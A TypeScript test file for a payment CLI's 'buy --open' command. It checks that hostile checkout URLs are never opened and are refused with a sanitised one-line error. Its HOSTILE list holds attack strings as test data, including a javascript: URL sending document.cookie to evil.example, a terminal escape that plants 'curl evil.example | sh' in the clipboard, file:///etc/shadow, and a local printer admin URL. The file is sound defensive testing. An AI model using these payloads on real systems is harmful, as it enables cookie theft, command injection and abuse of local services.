// `buy --open` against a server whose checkout answers an address no browser should be given:
// the system's opener is never started, and the refusal is one line on stderr, exit 1. Spawned,
// as a person runs it: the opener is the real one (`open`'s xdg-open), and $BROWSER, where
// xdg-open hands every address on a machine without a desktop, only writes down what it got.
import { checkoutPage, startDriftingMock } from '@profile-articles/test-utils/drifting-mock';
import { fakeBrowser } from '@profile-articles/test-utils/fake-browser';
import { afterEach, describe, expect, it } from 'vitest';
import { CLI_CONFIG, useCliMock } from './helpers.js';

const h = useCliMock();
const linux = process.platform === 'linux';
const closing: Array<() => Promise<void>> = [];
afterEach(async () => {
  for (const close of closing.splice(0)) await close();
});

/** A mock whose checkout answers `url` instead of its own page. */
async function checkoutAnswering(url: string): Promise<string> {
  const mock = await startDriftingMock(checkoutPage(url), CLI_CONFIG);
  closing.push(mock.close);
  return mock.url;
}

/** `buy 500 --open ARGS` against `origin`, with a fake browser that writes down what it gets. */
async function buyOpening(origin: string, args: string[] = []) {
  const browser = fakeBrowser();
  const result = await h.cli(['buy', '500', '--open', ...args], {
    env: { PROFILE_ARTICLES_BASE_URL: origin, ...browser.env },
  });
  return { browser, result };
}

const HOSTILE: Array<[string, string]> = [
  ['a local file', 'file:///etc/shadow'],
  ['javascript:', 'javascript:fetch("https://evil.example/?"+document.cookie)'],
  ['data:', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['plain http to another machine', 'http://pay.evil.example/checkout'],
  ['plain http to a name that only looks like loopback', 'http://127.0.0.1.evil.example/checkout'],
  ['another scheme', 'ssh://evil.example/'],
  ['https holding an escape sequence', 'https://pay.example/\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07'],
  ['https holding a line break', 'https://pay.example/ok\r\nError: nothing happened'],
  ['https holding a C1 control', 'https://pay.example/\u009b31m'],
  ['https holding a bidirectional override', 'https://pay.example/\u202egnp.exe'],
  ['not an address at all', '--help'],
];

// The origin is reached as [::ffff:127.0.0.1]: this machine, but a host the CLI (like a person
// reading it) does not take for loopback, standing in for a server on another computer.
const remote = (url: string) => url.replace('//127.0.0.1:', '//[::ffff:127.0.0.1]:');

describe.skipIf(!linux)('buy --open opens only https, or http on this machine', () => {
  it('an https page reaches the browser (the fake sees what a real one would)', async () => {
    const page = 'https://pay.example/checkout/cs_1?amount=500';
    const { browser, result } = await buyOpening(await checkoutAnswering(page));
    expect(result.code).toBe(0);
    expect(await browser.firstCall()).toBe(page);
  });

  it('the mock on this machine (plain http to 127.0.0.1) is opened too', async () => {
    const browser = fakeBrowser();
    const result = await h.cli(['buy', '500', '--open'], { env: browser.env });
    expect(result.code).toBe(0);
    expect(await browser.firstCall()).toMatch(/^http:\/\/127\.0\.0\.1:\d+\//);
  });

  for (const [what, page] of HOSTILE) {
    it(`${what}: never opened, one line on stderr, exit 1`, async () => {
      const { browser, result } = await buyOpening(await checkoutAnswering(page));
      expect(result.code).toBe(1);
      expect(browser.calls()).toEqual([]);
      expect(result.stdout).toBe('');
      const lines = result.stderr.split('\n').filter(Boolean);
      expect(lines).toHaveLength(1);
      expect(lines[0]).toMatch(/^Error: Refused to open the payment page ".*": only https/);
      // Shown made safe: no control character reaches the terminal.
      expect(result.stderr.slice(0, -1)).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
    });
  }

  // Attack trial: a remote server named the local printer service's admin page and it was opened.
  it('plain http to this machine, named by a server on another one: never opened, exit 1', async () => {
    const page = 'http://127.0.0.1:631/admin/?OP=add-printer';
    const { browser, result } = await buyOpening(remote(await checkoutAnswering(page)));
    expect(result.code).toBe(1);
    expect(browser.calls()).toEqual([]);
    expect(result.stdout).toBe('');
    expect(result.stderr).toContain(
      `Error: Refused to open the payment page "${page}": a server on another computer named a page on this one`,
    );
  });

  it('--json: the refusal is the one {"error"} line, stdout stays empty', async () => {
    const { browser, result } = await buyOpening(await checkoutAnswering('file:///etc/passwd'), ['--json']);
    expect(result.code).toBe(1);
    expect(browser.calls()).toEqual([]);
    expect(result.stdout).toBe('');
    const lines = result.stderr.split('\n').filter(Boolean);
    expect(lines).toHaveLength(1);
    expect(JSON.parse(lines[0] ?? '').error).toMatchObject({ type: 'CliError', hint: null });
  });
});
